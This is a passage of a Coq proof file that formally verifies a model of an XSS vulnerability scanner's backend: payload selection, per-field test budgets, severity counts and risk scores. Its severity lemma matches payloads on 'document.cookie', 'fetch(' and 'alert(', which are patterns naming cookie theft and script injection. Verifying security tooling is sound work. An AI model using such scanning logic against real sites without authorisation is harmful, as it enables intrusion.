     (ScanRequest.custom_payloads req = None -> select_payloads req = [])).
Proof.
  unfold select_payloads. destruct req as [id url ty custom forms urls depth]; simpl.
  split; [intros ->; reflexivity|]. split; [intros ->; split; reflexivity|].
  intros ->. simpl. split.
  - intros l ->. destruct l; reflexivity.
  - intros ->. reflexivity.
Qed.

Lemma select_payloads_by_scan_type_witness :
  let req := ScanRequest.mk "s" "https://x.test/" "custom" (Some ["<b>"]) true true 3 in
  ScanRequest.scan_type req = "custom" /\ ScanRequest.custom_payloads req = Some ["<b>"] /\
  select_payloads req = ["<b>"].
Proof.
  intros req. split; [reflexivity|]. split; [reflexivity|].
  apply (proj1 (proj2 (proj2 (select_payloads_by_scan_type req)) eq_refl)). reflexivity.
Defined.

(** ** The test loops of [perform_xss_scan] *)

Definition is_text_like (f : InputField) : bool :=
  existsb (String.eqb (input_type f)) text_like_types.

(** The injectable surfaces found on a page: the text-like fields of its
    forms, with the resolved form action, ... *)
Definition form_surfaces (req : ScanRequest.t) (page : list Form) : list (string * string) :=
  flat_map (fun form =>
    map (fun f => (resolve_action (base_url_of (ScanRequest.target_url req)) form, input_name f))
      (List.filter is_text_like (form_inputs form)))
    (if ScanRequest.include_forms req then page else []).

(** ... and the names of the [name=value] pairs of the target's query string. *)
Definition url_surfaces (req : ScanRequest.t) : list string :=
  let url := ScanRequest.target_url req in
  if ScanRequest.include_urls req && str_in "?" url then
    map param_name (List.filter (str_in "=") (query_params url))
  else [].

Lemma run_tests_calls (sid ep par kind : string) (ps : list string) (acc : ScanAcc) :
  acc_calls (fold_left (run_test sid ep par kind) ps acc)
  = (acc_calls acc ++ map (fun p => mkCall ep par p kind) ps)%list.
Proof.
  revert acc. induction ps as [|p ps IH]; intros acc; simpl.
  - now rewrite app_nil_r.
  - rewrite IH. unfold run_test.
    destruct (test_payload _ _ _ _ _ _); simpl; now rewrite <- app_assoc.
Qed.

Lemma test_form_calls req base payloads acc form :
  acc_calls (test_form req base payloads acc form)
  = (acc_calls acc ++
     flat_map (fun f => map (fun p => mkCall (resolve_action base form) (input_name f) p "form_input")
                          payloads)
       (List.filter is_text_like (form_inputs form)))%list.
Proof.
  unfold test_form. generalize (resolve_action base form) as action; intros action.
  revert acc. induction (form_inputs form) as [|f fs IH]; intros acc; cbn [fold_left List.filter].
  - now rewrite app_nil_r.
  - rewrite IH.
    change (existsb (String.eqb (input_type f)) text_like_types) with (is_text_like f).
    destruct (is_text_like f); cbn [flat_map].
    + rewrite run_tests_calls. now rewrite <- app_assoc.
    + reflexivity.
Qed.

Lemma test_forms_calls req base payloads forms acc :
  acc_calls (fold_left (test_form req base payloads) forms acc)
  = (acc_calls acc ++
     flat_map (fun form =>
       flat_map (fun f => map (fun p => mkCall (resolve_action base form) (input_name f) p "form_input")
                            payloads)
         (List.filter is_text_like (form_inputs form))) forms)%list.
Proof.
  revert acc. induction forms as [|form forms IH]; intros acc; simpl.
  - now rewrite app_nil_r.
  - rewrite IH, test_form_calls. now rewrite <- app_assoc.
Qed.

Lemma test_url_params_calls req payloads acc :
  acc_calls (test_url_params req payloads acc)
  = (acc_calls acc ++
     flat_map (fun name => map (fun p => mkCall (ScanRequest.target_url req) name p "url_parameter")
                             (firstn 5 payloads))
       (url_surfaces req))%list.
Proof.
  unfold test_url_params, url_surfaces.
  destruct (ScanRequest.include_urls req && str_in "?" (ScanRequest.target_url req)); simpl;
    [|now rewrite app_nil_r].
  revert acc. induction (query_params (ScanRequest.target_url req)) as [|q qs IH];
    intros acc; simpl.
  - now rewrite app_nil_r.
  - rewrite IH. destruct (str_in "=" q); simpl.
    + rewrite run_tests_calls. now rewrite <- app_assoc.
    + reflexivity.
Qed.

Lemma flat_map_flat_map_map {A B C} (f : A -> list B) (g : B -> list C) (l : list A) :
  flat_map g (flat_map f l) = flat_map (fun a => flat_map g (f a)) l.
Proof.
  induction l as [|a l IH]; simpl; [reflexivity|]. now rewrite flat_map_app, IH.
Qed.

Lemma flat_map_map_l {A B C} (h : A -> B) (g : B -> list C) (l : list A) :
  flat_map g (map h l) = flat_map (fun a => g (h a)) l.
Proof. induction l as [|a l IH]; simpl; [reflexivity|now rewrite IH]. Qed.

(** C3.  Every text-like form field is tested with the whole selected
    payload sequence, every query parameter with its first five payloads
    (so at most 5); the comprehensive sequence has 15 payloads.  When
    the fetch raises, nothing is tested. *)
Theorem perform_xss_scan_test_budget (fetched : fetch_outcome) (req : ScanRequest.t) (n : nat) :
  let payloads := select_payloads req in
  let url := ScanRequest.target_url req in
  acc_calls (perform_xss_scan fetched req (scan_start n)) =
    match fetched with
    | FetchRaised => []
    | FetchResponse _ page =>
        (flat_map (fun '(ep, name) => map (fun p => mkCall ep name p "form_input") payloads)
           (form_surfaces req page)
         ++ flat_map (fun name => map (fun p => mkCall url name p "url_parameter") (firstn 5 payloads))
              (url_surfaces req))%list
    end
  /\ (length (firstn 5 payloads) <= 5)%nat
  /\ (ScanRequest.scan_type req = "comprehensive" -> length payloads = 15%nat).
Proof.
  intros payloads url. split; [|split].
  - destruct fetched as [|st page]; [reflexivity|].
    unfold perform_xss_scan. rewrite test_url_params_calls, test_forms_calls. simpl acc_calls.
    unfold form_surfaces. rewrite flat_map_flat_map_map. f_equal.
    apply flat_map_ext. intros form. rewrite flat_map_map_l. reflexivity.
  - rewrite length_firstn. lia.
  - intros Hty. unfold payloads, select_payloads. rewrite Hty. reflexivity.
Qed.

Lemma perform_xss_scan_test_budget_witness :
  let req := ScanRequest.mk "s" "https://x.test/p?name=foo" "comprehensive" None true true 3 in
  ScanRequest.scan_type req = "comprehensive" /\ length (select_payloads req) = 15%nat
  /\ url_surfaces req = ["name"].
Proof.
  intros req. split; [reflexivity|]. split.
  - apply (perform_xss_scan_test_budget FetchRaised req 0). reflexivity.
  - vm_compute. reflexivity.
Defined.

(** ** A program logic for the backend monad *)

Section Logic.
Variable env : Env.

(** Total correctness with an exceptional postcondition. *)
Definition triple {A} (P : World -> Prop) (m : M A) (Q : A -> World -> Prop)
    (E : exn -> World -> Prop) : Prop :=
  forall w, P w ->
    match m w with
    | (inr x, w') => Q x w'
    | (inl e, w') => E e w'
    end.

Lemma triple_ret {A} P (x : A) Q E :
  (forall w, P w -> Q x w) -> triple P (ret x) Q E.
Proof. intros H w Hw. exact (H w Hw). Qed.

Lemma triple_raise {A} P e (Q : A -> World -> Prop) E :
  (forall w, P w -> E e w) -> triple P (raise e) Q E.
Proof. intros H w Hw. exact (H w Hw). Qed.

Lemma triple_bind {A B} P (m : M A) (k : A -> M B) R Q E :
  triple P m R E -> (forall x, triple (R x) (k x) Q E) -> triple P (bind m k) Q E.
Proof.
  intros Hm Hk w Hw. unfold bind. specialize (Hm w Hw).
  destruct (m w) as [[e|x] w']; [exact Hm|exact (Hk x w' Hm)].
Qed.

Lemma triple_try {A} P (m : M A) h Q E1 E :
  triple P m Q E1 -> (forall e, triple (E1 e) (h e) Q E) -> triple P (try_except m h) Q E.
Proof.
  intros Hm Hh w Hw. unfold try_except. specialize (Hm w Hw).
  destruct (m w) as [[e|x] w']; [exact (Hh e w' Hm)|exact Hm].
Qed.

Lemma triple_pre {A} (P P' : World -> Prop) (m : M A) Q E :
  (forall w, P w -> P' w) -> triple P' m Q E -> triple P m Q E.
Proof. intros HP H w Hw. exact (H w (HP w Hw)). Qed.

Lemma triple_post {A} P (m : M A) (Q Q' : A -> World -> Prop) (E E' : exn -> World -> Prop) :
  (forall x w, Q x w -> Q' x w) -> (forall e w, E e w -> E' e w) ->
  triple P m Q E -> triple P m Q' E'.
Proof.
  intros HQ HE H w Hw. specialize (H w Hw).
  destruct (m w) as [[e|x] w']; [exact (HE e w' H)|exact (HQ x w' H)].
Qed.

(** Invariants on the [scan_results] collection and its history. *)
Definition store (K : list ScanResult.t -> list ScanResult.t -> Prop) (w : World) : Prop :=
  K (w_results w) (w_history w).

Definition hist (J : list ScanResult.t -> Prop) : World -> Prop := store (fun _ h => J h).

Lemma triple_now K E :
  triple (store K) (now env) (fun _ => store K) E.
Proof. intros w Hw. exact Hw. Qed.

Lemma triple_fresh_uuid K E :
  triple (store K) fresh_uuid (fun _ => store K) E.
Proof. intros w Hw. exact Hw. Qed.

Lemma triple_scan_task K E req :
  triple (store K) (scan_task env req)
    (fun acc w => store K w /\ exists n, acc = perform_xss_scan
       (env_fetch env (ScanRequest.target_url req)) req (scan_start n))
    E.
Proof. intros w Hw. simpl. split; [exact Hw|]. eexists. reflexivity. Qed.

Lemma triple_insert_vuln K v :
  triple (store K) (insert_vuln env v) (fun _ => store K) (fun _ => store K).
Proof. intros w Hw. unfold insert_vuln, db_op. destruct (env_db_fails env _); exact Hw. Qed.

Lemma triple_insert_scan K req :
  triple (store K) (insert_scan env req) (fun _ => store K) (fun _ => store K).
Proof. intros w Hw. unfold insert_scan, db_op. destruct (env_db_fails env _); exact Hw. Qed.

Lemma triple_call_oracle K c :
  triple (store K) (call_oracle env c) (fun _ => store K) (fun _ => store K).
Proof.
  intros w Hw. unfold call_oracle. destruct (env_oracle env c); exact Hw.
Qed.

Lemma update_first_patched sid patch rs rs' r' :
  update_first sid patch rs = (rs', Some r') -> exists r, r' = patch r.
Proof.
  revert rs'. induction rs as [|r rs IH]; intros rs' H; simpl in H; [discriminate|].
  destruct (String.eqb (ScanResult.scan_id r) sid).
  - injection H as _ <-. now exists r.
  - destruct (update_first sid patch rs) as [rs'' o] eqn:E. injection H as _ ->.
    exact (IH rs'' eq_refl).
Qed.

(** A [$set] whose every outcome is good keeps the history good. *)
Lemma triple_update_good (good : ScanResult.t -> Prop) sid patch :
  (forall r, good (patch r)) ->
  triple (hist (Forall good)) (update_one_result env sid patch)
    (fun _ => hist (Forall good)) (fun _ => hist (Forall good)).
Proof.
  intros Hgood w Hw. unfold update_one_result, db_op.
  destruct (env_db_fails env (w_dbops w)); [exact Hw|].
  destruct (update_first sid patch (w_results (set_dbops w (S (w_dbops w))))) as [rs o] eqn:E.
  unfold hist; simpl. apply Forall_app. split; [exact Hw|].
  destruct o as [r'|]; simpl; [|constructor].
  destruct (update_first_patched _ _ _ _ _ E) as [r ->]. constructor; [apply Hgood|constructor].
Qed.

Lemma triple_insert_result_good (good : ScanResult.t -> Prop) r :
  good r ->
  triple (hist (Forall good)) (insert_result env r)
    (fun _ => hist (Forall good)) (fun _ => hist (Forall good)).
Proof.
  intros Hr w Hw. unfold insert_result, db_op.
  destruct (env_db_fails env (w_dbops w)); [exact Hw|].
  unfold hist; simpl. apply Forall_app. split; [exact Hw|]. now constructor.
Qed.

End Logic.

(** ** Severities and counting *)

(** The severities [test_payload] assigns. *)
Definition produced_severity (s : string) : Prop :=
  s = "critical" \/ s = "medium" \/ s = "high".

Lemma test_payload_severity vid sid ep par payload kind v :
  test_payload vid sid ep par payload kind = Some v ->
  produced_severity (Vulnerability.severity v).
Proof.
  unfold test_payload, produced_severity.
  destruct (existsb _ markers); [|discriminate].
  intros H. injection H as <-. simpl.
  destruct (str_in "document.cookie" payload || str_in "fetch(" payload); [now left|].
  destruct (str_in "alert(" payload); [now right; left|now right; right].
Qed.

Definition vulns_ok (acc : ScanAcc) : Prop :=
  Forall (fun v => produced_severity (Vulnerability.severity v)) (acc_vulns acc).

Lemma fold_left_inv {A B} (I : A -> Prop) (f : A -> B -> A) (l : list B) (a : A) :
  (forall a b, I a -> I (f a b)) -> I a -> I (fold_left f l a).
Proof.
  intros Hf. revert a. induction l as [|b l IH]; intros a Ha; simpl; [exact Ha|].
  apply IH, Hf, Ha.
Qed.

Lemma run_test_ok sid ep par kind acc payload :
  vulns_ok acc -> vulns_ok (run_test sid ep par kind acc payload).
Proof.
  unfold vulns_ok, run_test. intros Hacc.
  destruct (test_payload _ _ _ _ _ _) as [v|] eqn:E; simpl; [|exact Hacc].
  apply Forall_app. split; [exact Hacc|]. constructor; [|constructor].
  exact (test_payload_severity _ _ _ _ _ _ _ E).
Qed.

(** Every finding of [perform_xss_scan] is critical, medium or high. *)
Lemma perform_xss_scan_severities fetched req n :
  vulns_ok (perform_xss_scan fetched req (scan_start n)).
Proof.
  destruct fetched as [|st page]; simpl; [constructor|].
  unfold test_url_params.
  assert (Hforms : vulns_ok (fold_left (test_form req (base_url_of (ScanRequest.target_url req))
                      (select_payloads req)) (if ScanRequest.include_forms req then page else [])
                      (scan_start n))).
  { apply fold_left_inv; [|constructor].
    intros acc form Hacc. unfold test_form. apply fold_left_inv; [|exact Hacc].
    intros acc' f Hacc'. destruct (existsb _ text_like_types); [|exact Hacc'].
    apply fold_left_inv; [|exact Hacc']. intros. now apply run_test_ok. }
  destruct (ScanRequest.include_urls req && str_in "?" (ScanRequest.target_url req));
    [|exact Hforms].
  apply fold_left_inv; [|exact Hforms].
  intros acc param Hacc. destruct (str_in "=" param); [|exact Hacc].
  apply fold_left_inv; [|exact Hacc]. intros. now apply run_test_ok.
Qed.

Lemma analyze_severity env v :
  Vulnerability.severity (analyze_vulnerability_with_ai env v) = Vulnerability.severity v.
Proof.
  unfold analyze_vulnerability_with_ai.
  destruct (env_oracle env (Analysis _)); [destruct (env_oracle env (Remediation _))|];
    reflexivity.
Qed.

Definition four_keys : list string := ["critical"; "high"; "medium"; "low"].

Definition count_of (counts : gmap string nat) (k : string) : nat := default 0%nat (counts !! k).

Definition sum4 (counts : gmap string nat) : nat :=
  (count_of counts "critical" + count_of counts "high" + count_of counts "medium"
   + count_of counts "low")%nat.

Definition keys_in_four (counts : gmap string nat) : Prop :=
  forall k, is_Some (counts !! k) -> k ∈ four_keys.

Lemma severity_counts0_keys : keys_in_four severity_counts0.
Proof.
  intros k [n Hk]. unfold severity_counts0 in Hk.
  repeat (rewrite lookup_insert_Some in Hk; destruct Hk as [[<- _]|[_ Hk]];
          [unfold four_keys; set_solver|]).
  rewrite lookup_empty in Hk. discriminate.
Qed.

Lemma count_insert_existing (counts : gmap string nat) k n :
  keys_in_four counts -> counts !! k = Some n ->
  keys_in_four (<[k := S n]> counts) /\ sum4 (<[k := S n]> counts) = S (sum4 counts) /\
  (k <> "low" -> count_of (<[k := S n]> counts) "low" = count_of counts "low").
Proof.
  intros Hkeys Hk. split; [|split].
  - intros k' Hk'. destruct (decide (k' = k)) as [->|Hne].
    + apply Hkeys. now exists n.
    + apply Hkeys. now rewrite lookup_insert_ne in Hk' by congruence.
  - assert (Hin : k ∈ four_keys) by (apply Hkeys; now exists n).
    unfold four_keys in Hin. unfold sum4, count_of.
    rewrite !elem_of_cons in Hin.
    destruct Hin as [->|[->|[->|[->|Hin]]]]; [..|set_solver];
      rewrite Hk; simplify_map_eq; simpl; lia.
  - intros Hne. unfold count_of. now rewrite lookup_insert_ne by congruence.
Qed.

(** ** The background task keeps every persisted scan result consistent *)

Lemma triple_lift {A} (phi : Prop) (P : World -> Prop) (m : M A) Q E :
  (phi -> triple P m Q E) -> triple (fun w => P w /\ phi) m Q E.
Proof. intros H w [Hw Hphi]. exact (H Hphi w Hw). Qed.

Lemma triple_count_severities K (counts : gmap string nat) (l : list Vulnerability.t) :
  keys_in_four counts ->
  triple (store K) (foldM count_severity counts l)
    (fun counts' w => store K w /\ keys_in_four counts' /\
       sum4 counts' = (sum4 counts + length l)%nat /\
       (Forall (fun v => Vulnerability.severity v <> "low") l ->
          count_of counts' "low" = count_of counts "low"))
    (fun _ => store K).
Proof.
  revert counts. induction l as [|v l IH]; intros counts Hk; simpl.
  - apply triple_ret. intros w Hw. split; [exact Hw|]. split; [exact Hk|]. split; [simpl; lia|auto].
  - apply (triple_bind _ _ _ (fun c w => store K w /\
             exists n, counts !! Vulnerability.severity v = Some n /\
                       c = <[Vulnerability.severity v := S n]> counts)).
    + intros w Hw. unfold count_severity.
      destruct (counts !! Vulnerability.severity v) eqn:E; simpl; [|exact Hw].
      split; [exact Hw|]. now exists n.
    + intros c w [Hw (n & Hn & ->)].
      destruct (count_insert_existing counts _ n Hk Hn) as (Hk' & Hs & Hl).
      specialize (IH _ Hk' w Hw).
      destruct (foldM count_severity _ l w) as [[e|c'] w']; [exact IH|].
      destruct IH as (Hw' & Hk'' & Hs' & Hl'). repeat split; auto.
      * rewrite Hs', Hs. lia.
      * intros Hlow. inversion Hlow as [|? ? Hv Hlow']; subst.
        rewrite Hl' by exact Hlow'. exact (Hl Hv).
Qed.

Lemma triple_getitem K counts k :
  triple (store K) (getitem counts k) (fun x w => store K w /\ counts !! k = Some x) (fun _ => store K).
Proof.
  intros w Hw. unfold getitem. destruct (counts !! k) eqn:E; simpl; [now split|exact Hw].
Qed.

Lemma triple_analyze_all env K l :
  triple (store K) (mapM (analyze_and_store env) l)
    (fun res w => store K w /\ res = map (analyze_vulnerability_with_ai env) l)
    (fun _ => store K).
Proof.
  induction l as [|v l IH]; simpl.
  - apply triple_ret. now split.
  - apply (triple_bind _ _ _ (fun a w => store K w /\ a = analyze_vulnerability_with_ai env v)).
    + unfold analyze_and_store. eapply triple_bind; [apply triple_insert_vuln|].
      intros ?. apply triple_ret. now split.
    + intros a. apply triple_lift. intros ->.
      eapply triple_bind; [exact IH|]. intros ys. apply triple_lift. intros ->.
      apply triple_ret. now split.
Qed.

Definition stages_ok (res : list Vulnerability.t * Z * Z * gmap string nat * string) : Prop :=
  let '(analyzed, _, _, counts, _) := res in
  keys_in_four counts /\ sum4 counts = length analyzed /\ count_of counts "low" = 0%nat.

Lemma triple_scan_stages env K req t :
  triple (store K) (scan_stages env req t) (fun res w => store K w /\ stages_ok res) (fun _ => store K).
Proof.
  unfold scan_stages.
  eapply triple_bind; [apply triple_scan_task|]. intros acc. apply triple_lift. intros [n Hacc].
  eapply triple_bind; [apply triple_analyze_all|]. intros analyzed. apply triple_lift. intros Ha.
  eapply triple_bind; [apply triple_now|]. intros end_time.
  eapply triple_bind; [apply (triple_count_severities K severity_counts0 analyzed severity_counts0_keys)|].
  intros counts.
  apply (triple_pre _ (fun w => store K w /\ (keys_in_four counts /\
     sum4 counts = (sum4 severity_counts0 + length analyzed)%nat /\
     (Forall (fun v => Vulnerability.severity v <> "low") analyzed ->
        count_of counts "low" = count_of severity_counts0 "low")))); [tauto|].
  apply triple_lift. intros (Hk & Hs & Hl).
  assert (Hnolow : Forall (fun v => Vulnerability.severity v <> "low") analyzed).
  { subst analyzed. apply Forall_map.
    pose proof (perform_xss_scan_severities (env_fetch env (ScanRequest.target_url req)) req n)
      as Hok. unfold vulns_ok in Hok. rewrite <- Hacc in Hok.
    eapply Forall_impl; [exact Hok|]. intros v Hv. simpl. rewrite analyze_severity.
    destruct Hv as [-> | [-> | ->]]; discriminate. }
  eapply triple_bind.
  - instantiate (1 := fun _ => store K).
    destruct analyzed; [apply triple_ret; auto|apply triple_call_oracle].
  - intros summary. apply triple_ret. intros w Hw. split; [exact Hw|].
    simpl. split; [exact Hk|]. split.
    + rewrite Hs. reflexivity.
    + rewrite (Hl Hnolow). reflexivity.
Qed.

(** A persisted scan result is good when, once "completed", its total is
    the sum of its per-severity counts, its risk score is
    [min(10.0, total * 2.0)] and its low count is 0. *)
Definition good (r : ScanResult.t) : Prop :=
  ScanResult.status r = "completed" ->
  ScanResult.total_vulnerabilities r =
    (ScanResult.critical_count r + ScanResult.high_count r + ScanResult.medium_count r
     + ScanResult.low_count r)%nat /\
  (exists s, ScanResult.ai_risk_score r = Some s /\
     (s == Qmin 10 (inject_Z (Z.of_nat (ScanResult.total_vulnerabilities r)) * 2))%Q) /\
  ScanResult.low_count r = 0%nat.

Lemma py_min_spec (a b : Q) : (py_min a b == Qmin a b)%Q.
Proof.
  unfold py_min. destruct (Qlt_le_dec b a) as [Hlt|Hle].
  - rewrite Q.min_r; [reflexivity|now apply Qlt_le_weak].
  - rewrite Q.min_l; [reflexivity|exact Hle].
Qed.

Lemma triple_background_scan env req :
  triple (hist (Forall good)) (background_scan env req)
    (fun _ => hist (Forall good)) (fun _ => hist (Forall good)).
Proof.
  unfold background_scan. eapply triple_try.
  - unfold scan_body.
    eapply triple_bind; [apply triple_now|]. intros t0.
    eapply triple_bind; [apply triple_update_good; intros r; unfold good; simpl; discriminate|].
    intros ?. eapply triple_bind; [apply triple_now|]. intros start_time.
    eapply triple_bind; [apply triple_scan_stages|].
    intros [[[[analyzed end_time] duration] counts] summary].
    apply triple_lift. intros (Hk & Hs & Hl).
    eapply triple_bind; [apply triple_getitem|]. intros c. apply triple_lift. intros Hc.
    eapply triple_bind; [apply triple_getitem|]. intros h. apply triple_lift. intros Hh.
    eapply triple_bind; [apply triple_getitem|]. intros m. apply triple_lift. intros Hm.
    eapply triple_bind; [apply triple_getitem|]. intros l. apply triple_lift. intros Hlo.
    apply triple_update_good. intros r ?. simpl.
    unfold sum4, count_of in Hs, Hl. rewrite Hc, Hh, Hm, Hlo in Hs. rewrite Hlo in Hl.
    simpl in Hs, Hl. split; [lia|]. split; [|exact Hl].
    eexists. split; [reflexivity|]. apply py_min_spec.
  - intros ?. eapply triple_bind; [apply triple_now|]. intros t.
    apply triple_update_good. intros r. unfold good. simpl. discriminate.
Qed.

Lemma triple_submit env req :
  triple (hist (Forall good)) (submit env req)
    (fun _ => hist (Forall good)) (fun _ => hist (Forall good)).
Proof.
  unfold submit, create_scan.
  eapply triple_bind; [|intros ?; apply triple_background_scan].
  eapply triple_bind; [apply triple_insert_scan|]. intros ?.
  eapply triple_bind; [apply triple_fresh_uuid|]. intros rid.
  apply triple_insert_result_good. unfold good. simpl. discriminate.
Qed.

Lemma serve_history_good env reqs w :
  Forall good (w_history w) -> Forall good (w_history (snd (serve env reqs w))).
Proof.
  revert w. induction reqs as [|req reqs IH]; intros w Hw; simpl; [exact Hw|].
  unfold bind.
  pose proof (triple_try (hist (Forall good)) (submit env req) (fun _ => ret tt)
                (fun _ => hist (Forall good)) (fun _ => hist (Forall good))
                (fun _ => hist (Forall good)) (triple_submit env req)
                (fun e => triple_ret _ tt _ _ (fun w H => H)) w Hw) as H.
  destruct (try_except (submit env req) (fun _ => ret tt) w) as [[e|[]] w'];
    [exact H|exact (IH w' H)].
Qed.

(** A concrete deployment: one page with one search form, scanned quickly. *)
Definition demo_page : list Form := [mkForm (Some "/search") [mkInput (Some "q") None]].

Definition demo_env : Env :=
  mkEnv (fun _ => FetchResponse 200 demo_page) (fun _ => Some "summary") (fun _ => false)
        (fun n => Z.of_nat n).

Definition demo_req : ScanRequest.t :=
  ScanRequest.mk "scan-1" "https://x.test/p?name=foo" "quick" None true true 3.

Definition empty_world : World := mkWorld [] [] [] [] 0 0 0.

Definition blank_result : ScanResult.t :=
  ScanResult.mk 0 "" "" 0 0 0 0 0 None None None None None.

(** The third state persisted for the demo scan (its completion). *)
Definition demo_completed : ScanResult.t :=
  nth 2 (w_history (snd (serve demo_env [demo_req] empty_world))) blank_result.

Lemma serve_history_good_from_empty env reqs w r :
  w_history w = [] -> In r (w_history (snd (serve env reqs w))) -> good r.
Proof.
  intros Hw Hin. assert (H : Forall good (w_history w)) by (rewrite Hw; constructor).
  pose proof (serve_history_good env reqs w H) as Hg.
  rewrite Forall_forall in Hg. apply Hg. now apply list_elem_of_In.
Qed.

(** C4.  Every state of a scan result persisted with status "completed"
    (by any sequence of submissions, starting from an empty database)
    has [total_vulnerabilities = critical + high + medium + low]. *)
Theorem completed_total_is_sum_of_counts (env : Env) (reqs : list ScanRequest.t)
    (w : World) (r : ScanResult.t) :
  w_history w = [] ->
  In r (w_history (snd (serve env reqs w))) ->
  ScanResult.status r = "completed" ->
  ScanResult.total_vulnerabilities r =
    (ScanResult.critical_count r + ScanResult.high_count r + ScanResult.medium_count r
     + ScanResult.low_count r)%nat.
Proof.
  intros Hw Hin Hc. exact (proj1 (serve_history_good_from_empty env reqs w r Hw Hin Hc)).
Qed.

Lemma completed_total_is_sum_of_counts_witness :
  ScanResult.total_vulnerabilities demo_completed = 6%nat /\
  ScanResult.total_vulnerabilities demo_completed =
    (ScanResult.critical_count demo_completed + ScanResult.high_count demo_completed
     + ScanResult.medium_count demo_completed + ScanResult.low_count demo_completed)%nat.
Proof.
  split; [vm_compute; reflexivity|].
  apply (completed_total_is_sum_of_counts demo_env [demo_req] empty_world demo_completed).
  - reflexivity.
  - apply nth_In. vm_compute. lia.
  - vm_compute. reflexivity.
Defined.

(** C5.  Every persisted completed scan result has
    [ai_risk_score = min(10.0, total_vulnerabilities * 2.0)]. *)
Theorem completed_risk_score (env : Env) (reqs : list ScanRequest.t) (w : World)
    (r : ScanResult.t) :
  w_history w = [] ->
  In r (w_history (snd (serve env reqs w))) ->
  ScanResult.status r = "completed" ->
  exists s, ScanResult.ai_risk_score r = Some s /\
    (s == Qmin 10 (inject_Z (Z.of_nat (ScanResult.total_vulnerabilities r)) * 2))%Q.
Proof.
  intros Hw Hin Hc. exact (proj1 (proj2 (serve_history_good_from_empty env reqs w r Hw Hin Hc))).
Qed.

Lemma completed_risk_score_witness :
  ScanResult.ai_risk_score demo_completed = Some 10%Q /\
  exists s, ScanResult.ai_risk_score demo_completed = Some s /\
    (s == Qmin 10 (inject_Z (Z.of_nat (ScanResult.total_vulnerabilities demo_completed)) * 2))%Q.
Proof.
  split; [vm_compute; reflexivity|].
  apply (completed_risk_score demo_env [demo_req] empty_world demo_completed).
  - reflexivity.
  - apply nth_In. vm_compute. lia.
  - vm_compute. reflexivity.
Defined.

(** C10.  [test_payload] only creates critical, medium or high findings,
    and every persisted completed scan result has [low_count = 0]. *)
Theorem no_low_severity (env : Env) (reqs : list ScanRequest.t) (w : World) (r : ScanResult.t) :
  (forall vid sid ep par payload kind v,
     test_payload vid sid ep par payload kind = Some v ->
     Vulnerability.severity v = "critical" \/ Vulnerability.severity v = "medium" \/
     Vulnerability.severity v = "high") /\
  (w_history w = [] ->
   In r (w_history (snd (serve env reqs w))) ->
   ScanResult.status r = "completed" ->
   ScanResult.low_count r = 0%nat).
Proof.
  split.
  - intros vid sid ep par payload kind v H. exact (test_payload_severity _ _ _ _ _ _ _ H).
  - intros Hw Hin Hc. exact (proj2 (proj2 (serve_history_good_from_empty env reqs w r Hw Hin Hc))).
Qed.

Lemma no_low_severity_witness :
  ScanResult.low_count demo_completed = 0%nat.
Proof.
  apply (proj2 (no_low_severity demo_env [demo_req] empty_world demo_completed)).
  - reflexivity.
  - apply nth_In. vm_compute. lia.
  - vm_compute. reflexivity.
Defined.

(** ** The status path of one scan result *)

(** Some storage operation fails. *)
Definition faulty (env : Env) : Prop := exists n, env_db_fails env n = true.

Definition fresh_sid (sid : string) (rs : list ScanResult.t) : Prop :=
  Forall (fun r => ScanResult.scan_id r <> sid) rs.

(** The scan's own document [r] is appended after the documents [rs0]
    present at submission, and [H] lists the states persisted for it since
    the history was [h0]. *)
Definition rec_view (sid : string) (rs0 h0 : list ScanResult.t)
    (P : ScanResult.t -> list ScanResult.t -> Prop) : World -> Prop :=
  store (fun rs h => exists r H, rs = (rs0 ++ [r])%list /\ h = (h0 ++ H)%list /\
    ScanResult.scan_id r = sid /\ Forall (fun x => ScanResult.scan_id x = sid) H /\ P r H).

Lemma update_first_fresh sid patch rs0 r :
  fresh_sid sid rs0 -> ScanResult.scan_id r = sid ->
  update_first sid patch (rs0 ++ [r])%list = ((rs0 ++ [patch r])%list, Some (patch r)).
Proof.
  intros Hfresh Hr. induction rs0 as [|r0 rs0 IH]; simpl.
  - rewrite Hr, String.eqb_refl. reflexivity.
  - inversion Hfresh as [|? ? Hne Hfresh']; subst.
    destruct (String.eqb_spec (ScanResult.scan_id r0) (ScanResult.scan_id r)) as [E|_];
      [contradiction|].
    rewrite (IH Hfresh'). reflexivity.
Qed.

Section View.
Variable env : Env.
Variables (sid : string) (rs0 h0 : list ScanResult.t).
Hypothesis Hfresh : fresh_sid sid rs0.

Lemma triple_update_view (P : ScanResult.t -> list ScanResult.t -> Prop) patch :
  (forall r, ScanResult.scan_id (patch r) = ScanResult.scan_id r) ->
  triple (rec_view sid rs0 h0 P) (update_one_result env sid patch)
    (fun _ => rec_view sid rs0 h0
       (fun r' H' => exists r H, P r H /\ r' = patch r /\ H' = (H ++ [patch r])%list))
    (fun _ w => rec_view sid rs0 h0 P w /\ faulty env).
Proof.
  intros Hid w (r & H & Hrs & Hh & Hsid & HH & HP). unfold update_one_result, db_op.
  destruct (env_db_fails env (w_dbops w)) eqn:Ef.
  - split; [exists r, H; auto|now exists (w_dbops w)].
  - cbn [w_results set_dbops]. rewrite Hrs, (update_first_fresh sid patch rs0 r Hfresh Hsid).
    unfold rec_view, store; cbn.
    exists (patch r), (H ++ [patch r])%list. rewrite Hh, <- app_assoc.
    split; [reflexivity|]. split; [reflexivity|]. split; [now rewrite Hid|].
    split; [apply Forall_app; split; [exact HH|constructor; [now rewrite Hid|constructor]]|].
    exists r, H. auto.
Qed.

Definition path (st : list string) (r : ScanResult.t) (H : list ScanResult.t) : Prop :=
  map ScanResult.status H = st.

Lemma triple_update_path st s patch :
  (forall r, ScanResult.scan_id (patch r) = ScanResult.scan_id r) ->
  (forall r, ScanResult.status (patch r) = s) ->
  triple (rec_view sid rs0 h0 (path st)) (update_one_result env sid patch)
    (fun _ => rec_view sid rs0 h0 (path (st ++ [s])))
    (fun _ w => rec_view sid rs0 h0 (path st) w /\ faulty env).
Proof.
  intros Hid Hs. eapply triple_post; [|intros e w Hw; exact Hw|apply (triple_update_view _ _ Hid)].
  intros x w (r' & H' & Hrs & Hh & Hsid & HH & (r & H & Hp & -> & ->)).
  exists (patch r), (H ++ [patch r])%list. repeat split; auto.
  unfold path in *. rewrite map_app, Hp. simpl. now rewrite Hs.
Qed.

End View.

Lemma triple_or {A} (P1 P2 : World -> Prop) (m : M A) Q E :
  triple P1 m Q E -> triple P2 m Q E -> triple (fun w => P1 w \/ P2 w) m Q E.
Proof. intros H1 H2 w [Hw|Hw]; [exact (H1 w Hw)|exact (H2 w Hw)]. Qed.

